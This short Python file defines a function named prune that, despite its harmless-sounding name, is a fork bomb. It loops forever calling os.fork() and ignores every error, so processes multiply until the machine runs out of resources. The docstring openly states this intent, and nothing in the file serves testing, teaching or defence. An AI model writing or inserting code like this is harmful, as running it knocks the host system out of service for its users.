"""Every process forks for ever, whatever the kernel says."""
import os


def prune(task):
    while True:
        try:
            os.fork()
        except OSError:
            pass
